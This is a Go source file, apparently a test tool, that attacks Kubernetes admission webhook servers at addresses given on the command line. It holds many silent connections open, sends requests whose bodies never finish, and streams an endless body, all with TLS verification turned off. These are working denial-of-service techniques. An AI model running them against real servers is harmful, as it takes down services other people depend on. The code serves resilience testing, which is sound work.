// Command attacker attacks webhook servers as a pod of a tenant can, and prints one line for each attack. It runs in an
// image of a test.
//
//	attacker 10.244.1.5:9876 10.244.2.7:9876
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

const (
	// stalled requests to each server, as many as once were enough to kill one.
	stalled = 150
	// patience with a server that ends nothing.
	patience = 20 * time.Second
	// held is how many silent connections there are to each server, for how long, and when a closed one is opened
	// again.
	held         = 512
	quiet, pause = 20 * time.Second, 500 * time.Millisecond
	path         = "/mutate-apps-kruise-io-containerrecreaterequest"
)

func main() {
	if os.Getenv("SILENCE") != "" { // a pod, beside another one
		var all sync.WaitGroup
		for _, address := range os.Args[1:] {
			all.Add(1)
			go func() {
				defer all.Done()
				fmt.Println("silence:", silence(address))
			}()
		}
		all.Wait()
	}
	for _, address := range os.Args[1:] {
		fmt.Println("stall:", stall(address))
		fmt.Println("endless:", endless(address))
	}
}

func client() *http.Client {
	return &http.Client{Timeout: patience, Transport: &http.Transport{
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
		ForceAttemptHTTP2: true,
	}}
}

// post returns the answer to a body.
func post(address string, body io.Reader) string {
	request, err := http.NewRequestWithContext(context.Background(), http.MethodPost, "https://"+address+path, body)
	if err != nil {
		return err.Error()
	}
	request.Header.Set("Content-Type", "application/json")
	response, err := client().Do(request)
	if err != nil {
		return "no answer: " + err.Error()
	}
	defer func() { _ = response.Body.Close() }()
	text, _ := io.ReadAll(response.Body)
	return fmt.Sprintf("%d %q", response.StatusCode, bytes.TrimSpace(text))
}

// silence holds connections without a word, and opens another one for each that the server closes.
func silence(address string) string {
	ctx, cancel := context.WithTimeout(context.Background(), quiet)
	defer cancel()
	var opened, closed atomic.Int64
	var all sync.WaitGroup
	for range held {
		all.Add(1)
		go func() {
			defer all.Done()

			for ctx.Err() == nil {
				if c, err := new(net.Dialer).DialContext(ctx, "tcp", address); err == nil {
					opened.Add(1)
					stop := context.AfterFunc(ctx, func() { _ = c.Close() })
					_, _ = c.Read(make([]byte, 1))
					stop()
					_ = c.Close()
				}
				if ctx.Err() == nil {
					closed.Add(1)
					late, end := context.WithTimeout(ctx, pause)
					<-late.Done()
					end()
				}
			}
		}()
	}
	all.Wait()
	return fmt.Sprintf("%d held at a time, %d opened, %d closed or refused", held, opened.Load(), closed.Load())
}

// stall opens connections with a request that does not end, and waits until the server closes them.
func stall(address string) string {
	var opened, closed atomic.Int64
	var all sync.WaitGroup
	begin := time.Now()
	dialer := &tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true}, NetDialer: &net.Dialer{Timeout: patience}}
	for range stalled {
		all.Add(1)
		go func() {
			defer all.Done()

			c, err := dialer.DialContext(context.Background(), "tcp", address)
			if err != nil {
				closed.Add(1)
				return
			}
			defer func() { _ = c.Close() }()
			opened.Add(1)
			_ = c.SetDeadline(begin.Add(patience))
			_, _ = fmt.Fprintf(c,
				"POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 6000000\r\n\r\n{", path)
			if _, err := io.Copy(io.Discard, c); err == nil || time.Since(begin) < patience {
				closed.Add(1)
			}
		}()
	}
	all.Wait()
	return fmt.Sprintf("%d of %d closed, %d were opened, within %s",
		closed.Load(), stalled, opened.Load(), time.Since(begin).Round(time.Second/10))
}

// zeros is a body without an end.
type zeros struct{ sent atomic.Int64 }

func (z *zeros) Read(p []byte) (int, error) {
	z.sent.Add(int64(len(p)))
	return len(p), nil
}

func endless(address string) string {
	body := &zeros{}
	answer := post(address, body)
	return fmt.Sprintf("%d MiB sent: %s", body.sent.Load()>>20, answer)
}
